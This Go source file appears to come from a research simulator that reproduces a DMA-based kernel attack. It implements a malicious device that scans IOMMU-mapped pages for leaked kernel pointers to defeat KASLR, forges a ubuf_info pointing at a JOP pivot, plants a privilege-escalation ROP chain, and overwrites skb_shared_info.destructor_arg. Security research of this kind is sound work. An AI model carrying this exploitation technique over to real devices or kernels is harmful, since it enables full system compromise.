// Package device implements the attacker: a malicious DMA-capable device (a
// compromised NIC, or a FireWire peripheral sharing the NIC's IOMMU domain as
// in §6). The threat model of §3.1 is enforced structurally:
//
//   - the device touches memory exclusively through the dma.Bus, i.e. by
//     IOVA, through the IOMMU's translation and permission checks;
//   - it knows its own hardware state (ring descriptors and their IOVAs,
//     completion timing) and the victim's kernel *build* (struct layouts,
//     symbol and gadget offsets) — but none of the boot's randomized secrets
//     (KASLR bases, buffer KVAs), which it must infer from leaks.
package device

import (
	"encoding/binary"
	"fmt"

	"dmafault/internal/dma"
	"dmafault/internal/iommu"
	"dmafault/internal/kexec"
	"dmafault/internal/layout"
	"dmafault/internal/netstack"
)

// Attacker is the malicious device's controller ("firmware").
type Attacker struct {
	Dev iommu.DeviceID
	Bus *dma.Bus
	// Infer accumulates KASLR knowledge from leaked words (§2.4).
	Infer *layout.Inferencer
	// Build is the offline-extracted gadget/symbol knowledge of the victim
	// kernel build (§6 used ROPgadget on an identical image).
	Build kexec.BuildOffsets

	// Stats.
	WordsScanned, PagesScanned int

	// plant caches the payload bytes PlantUbufAndChain writes, for the text
	// base and build they were rendered from: a RingFlood plants the same
	// bytes into every buffer of the ring.
	plant      []byte
	plantBase  layout.Addr
	plantBuild kexec.BuildOffsets
}

// NewAttacker builds an attacker for the given requester ID. symbols and
// build describe the victim's kernel *build* (public knowledge); nothing
// boot-specific is passed in.
func NewAttacker(dev iommu.DeviceID, bus *dma.Bus, symbols *layout.SymbolTable, build kexec.BuildOffsets) *Attacker {
	return &Attacker{Dev: dev, Bus: bus, Infer: layout.NewInferencer(symbols), Build: build}
}

// ReadWords DMA-reads n 64-bit words starting at the IOVA.
func (a *Attacker) ReadWords(va iommu.IOVA, n int) ([]uint64, error) {
	buf := make([]byte, 8*n)
	if err := a.Bus.Read(a.Dev, va, buf); err != nil {
		return nil, err
	}
	out := make([]uint64, n)
	for i := range out {
		out[i] = binary.LittleEndian.Uint64(buf[i*8:])
	}
	return out, nil
}

// ScanPage reads a whole readable page and feeds every word to the KASLR
// inferencer — "malicious devices can scan the pages mapped for reading,
// looking for kernel pointers leaked due to sub-page vulnerability" (§2.4).
func (a *Attacker) ScanPage(va iommu.IOVA) (used int, err error) {
	pageVA := va &^ iommu.IOVA(layout.PageMask)
	words, err := a.ReadWords(pageVA, layout.PageSize/8)
	if err != nil {
		return 0, err
	}
	a.PagesScanned++
	a.WordsScanned += len(words)
	return a.Infer.ObserveWords(words), nil
}

// ScanReadable scans each IOVA whose page is currently readable, skipping
// the rest (RX buffers are WRITE-only; TX buffers are the readable ones).
func (a *Attacker) ScanReadable(vas []iommu.IOVA) int {
	total := 0
	for _, va := range vas {
		if !a.Bus.Probe(a.Dev, va, false) {
			continue
		}
		n, err := a.ScanPage(va)
		if err == nil {
			total += n
		}
	}
	return total
}

// ChainAddresses resolves the escalation-chain addresses from the recovered
// text base. Fails until the KASLR break has succeeded.
func (a *Attacker) ChainAddresses() (kexec.ChainAddresses, error) {
	base, err := a.Infer.TextBase()
	if err != nil {
		return kexec.ChainAddresses{}, fmt.Errorf("device: text base not recovered yet: %w", err)
	}
	return kexec.ResolveChainAddresses(base, a.Build), nil
}

// PivotAddr returns the runtime address of the JOP stack-pivot gadget.
func (a *Attacker) PivotAddr() (layout.Addr, error) {
	base, err := a.Infer.TextBase()
	if err != nil {
		return 0, err
	}
	return base + layout.Addr(a.Build.Pivot), nil
}

// Device-side copies of the victim build's struct layout constants. The
// attacker needs them to locate destructor_arg and frags[] on a mapped page
// (§3.3 attribute 2: "the location on the page of the callback pointer must
// be known to the device").
const (
	sharedInfoDestructorArgOff = netstack.SharedInfoDestructorArgOff
	sharedInfoNrFragsOff       = netstack.SharedInfoNrFragsOff
	sharedInfoFragsOff         = netstack.SharedInfoFragsOff
	fragSize                   = netstack.FragSize
	ubufCallbackOff            = netstack.UbufCallbackOff
)

// SharedInfoIOVA computes where skb_shared_info lives for an RX buffer whose
// payload capacity is cap: the same arithmetic the victim's build uses
// (SKB_DATA_ALIGN), applied to the buffer's IOVA.
func SharedInfoIOVA(buf iommu.IOVA, cap uint32) iommu.IOVA {
	truesize := netstack.TruesizeFor(cap)
	return buf + iommu.IOVA(truesize-netstack.SharedInfoSize)
}

// PlantPayload executes steps (b) and (c) of Fig. 4 in an RX buffer the
// device can write:
//
//   - it writes a struct ubuf_info of its own making into the buffer, with
//     the callback pointing at the JOP pivot gadget;
//   - it writes the privilege-escalation ROP chain PivotDisplacement bytes
//     past the ubuf_info (where the pivot will move %rsp);
//   - it overwrites shared_info.destructor_arg to point at the planted
//     ubuf_info — which requires the buffer's KVA, the attribute compound
//     attacks exist to obtain.
//
// bufIOVA/bufKVA address the buffer start; cap is its payload capacity.
func (a *Attacker) PlantPayload(bufIOVA iommu.IOVA, bufKVA layout.Addr, cap uint32) error {
	if err := a.PlantUbufAndChain(bufIOVA); err != nil {
		return err
	}
	si := SharedInfoIOVA(bufIOVA, cap)
	return a.OverwriteDestructorArg(si, bufKVA+UbufPlantOffset)
}

// UbufPlantOffset is where PlantUbufAndChain places the forged ubuf_info
// inside a buffer (free payload space past the short spoofed packet).
const UbufPlantOffset = 256

// PayloadBytes renders the forged ubuf_info + ROP chain as raw bytes, for
// attacks that deliver the payload through a packet body rather than DMA
// (Poisoned TX sends it as the to-be-echoed request, §5.4).
func (a *Attacker) PayloadBytes() ([]byte, error) {
	chainAddrs, err := a.ChainAddresses()
	if err != nil {
		return nil, err
	}
	pivot, err := a.PivotAddr()
	if err != nil {
		return nil, err
	}
	// ubuf_info at offset 0: callback = pivot; chain at PivotDisplacement.
	buf := make([]byte, int(kexec.PivotDisplacement)+8*6)
	binary.LittleEndian.PutUint64(buf[ubufCallbackOff:], uint64(pivot))
	copy(buf[kexec.PivotDisplacement:], kexec.EscalationChainBytes(chainAddrs))
	return buf, nil
}

// PlantUbufAndChain writes the forged ubuf_info and ROP chain into a buffer
// the device can DMA-write, at UbufPlantOffset. No KVA is needed for this
// step — everything is expressed in the buffer's own IOVA space and in
// recovered text addresses.
func (a *Attacker) PlantUbufAndChain(bufIOVA iommu.IOVA) error {
	base, err := a.Infer.TextBase()
	if err != nil {
		return fmt.Errorf("device: text base not recovered yet: %w", err)
	}
	if a.plant == nil || base != a.plantBase || a.Build != a.plantBuild {
		if a.plant, err = a.PayloadBytes(); err != nil {
			return err
		}
		a.plantBase, a.plantBuild = base, a.Build
	}
	if err := a.Bus.Write(a.Dev, bufIOVA+UbufPlantOffset, a.plant); err != nil {
		return fmt.Errorf("device: planting ubuf+chain: %w", err)
	}
	return nil
}

// OverwriteDestructorArg points a shared info's destructor_arg (addressed by
// the IOVA of the skb_shared_info itself) at the forged ubuf_info's KVA —
// the step that needs both WRITE access (a Fig. 7 window) and the KVA (the
// compound-attack prize).
func (a *Attacker) OverwriteDestructorArg(siIOVA iommu.IOVA, ubufKVA layout.Addr) error {
	if err := a.Bus.WriteU64(a.Dev, siIOVA+sharedInfoDestructorArgOff, uint64(ubufKVA)); err != nil {
		return fmt.Errorf("device: overwriting destructor_arg: %w", err)
	}
	return nil
}

// CanWrite reports whether the device can currently DMA-write the IOVA.
func (a *Attacker) CanWrite(va iommu.IOVA) bool { return a.Bus.Probe(a.Dev, va, true) }

// CanRead reports whether the device can currently DMA-read the IOVA.
func (a *Attacker) CanRead(va iommu.IOVA) bool { return a.Bus.Probe(a.Dev, va, false) }
